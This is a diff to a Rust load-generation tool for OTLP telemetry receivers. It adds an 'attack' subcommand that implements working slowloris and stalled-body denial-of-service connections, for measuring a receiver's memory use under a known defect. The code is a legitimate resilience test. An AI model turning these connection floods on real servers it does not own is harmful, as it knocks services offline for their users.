@@ -10,6 +10,11 @@
 //! `opentelemetry-proto`'s generated types and drops the result.
 //!
 //! `loadgen send --addr HOST:PORT` sends the same load to any running OTLP gRPC receiver.
+//!
+//! `loadgen attack stall|slowloris --addr HOST:PORT` holds hostile connections against an
+//! OTLP/HTTP receiver (issue 13, defect 2), for reading the server's peak RSS meanwhile:
+//! `stall` declares a body, sends most of it and goes silent; `slowloris` sends a request
+//! line and then one header line every few seconds, never finishing.
 
 use std::io::{BufRead, BufReader};
 use std::net::SocketAddr;
@@ -63,6 +68,12 @@ struct Load {
     connections: usize,
 }
 
+#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
+enum Attack {
+    Stall,
+    Slowloris,
+}
+
 #[derive(Subcommand)]
 enum Cmd {
     /// Serve OTLP gRPC on --grpc-addr; prints `READY <addr>` once listening.
@@ -89,6 +100,21 @@ enum Cmd {
         #[arg(long, default_value_t = 40)]
         rounds: usize,
     },
+    /// Hold hostile connections against an OTLP/HTTP receiver for --hold, then report how
+    /// many the server answered or closed.
+    Attack {
+        #[arg(value_enum)]
+        kind: Attack,
+        #[arg(long)]
+        addr: SocketAddr,
+        #[arg(long, default_value_t = 100)]
+        connections: usize,
+        /// `stall`: the declared body length; 90% of it is sent.
+        #[arg(long, default_value_t = 15 * 1024 * 1024)]
+        size: usize,
+        #[arg(long, default_value = "20s")]
+        hold: humantime::Duration,
+    },
     /// Send the load to a running receiver.
     Send {
         #[command(flatten)]
@@ -105,6 +131,9 @@ fn main() -> anyhow::Result<()> {
         Cmd::Serve { kind, grpc_addr } => runtime.block_on(serve(kind, grpc_addr)),
         Cmd::Bench { load, pairs, warmup } => runtime.block_on(bench(load, pairs, warmup)),
         Cmd::Micro { rounds } => runtime.block_on(micro(rounds)),
+        Cmd::Attack { kind, addr, connections, size, hold } => {
+            runtime.block_on(attack(kind, addr, connections, size, hold.into()))
+        }
         Cmd::Send { load, addr } => runtime.block_on(async {
             let requests = encode_requests(&load);
             let report = send(addr, &requests, &load).await?;
@@ -117,6 +146,65 @@ fn main() -> anyhow::Result<()> {
             Ok(())
         }),
     }
+}
+
+// ---------------------------------------------------------------------------------------
+// Attacks
+
+/// Opens `connections` hostile connections, holds them for `hold`, and prints how many the
+/// server ended (an answer or a close) by then.
+async fn attack(
+    kind: Attack,
+    addr: SocketAddr,
+    connections: usize,
+    size: usize,
+    hold: Duration,
+) -> anyhow::Result<()> {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let ended = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let body = Bytes::from(vec![0u8; size / 10 * 9]);
+    for _ in 0..connections {
+        let stream = tokio::net::TcpStream::connect(addr).await?;
+        let (mut reader, mut writer) = stream.into_split();
+        let body = body.clone();
+        tokio::spawn(async move {
+            let head = match kind {
+                Attack::Stall => format!(
+                    "POST /v1/traces HTTP/1.1\r\nhost: x\r\ncontent-type: application/x-protobuf\r\ncontent-length: {size}\r\n\r\n"
+                ),
+                Attack::Slowloris => "POST /v1/traces HTTP/1.1\r\nhost: x\r\n".to_string(),
+            };
+            if writer.write_all(head.as_bytes()).await.is_err() {
+                return;
+            }
+            match kind {
+                Attack::Stall => {
+                    let _ = writer.write_all(&body).await;
+                    std::future::pending::<()>().await;
+                }
+                Attack::Slowloris => {
+                    for index in 0u64.. {
+                        tokio::time::sleep(Duration::from_secs(5)).await;
+                        if writer.write_all(format!("x-{index}: y\r\n").as_bytes()).await.is_err() {
+                            return;
+                        }
+                    }
+                }
+            }
+        });
+        let ended = ended.clone();
+        tokio::spawn(async move {
+            let mut byte = [0u8; 1];
+            let _ = reader.read(&mut byte).await;
+            ended.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
+        });
+    }
+    tokio::time::sleep(hold).await;
+    println!(
+        "{connections} {kind:?} connections held {hold:?}: {} answered or closed by the server",
+        ended.load(std::sync::atomic::Ordering::Relaxed)
+    );
+    Ok(())
 }
 
 // ---------------------------------------------------------------------------------------
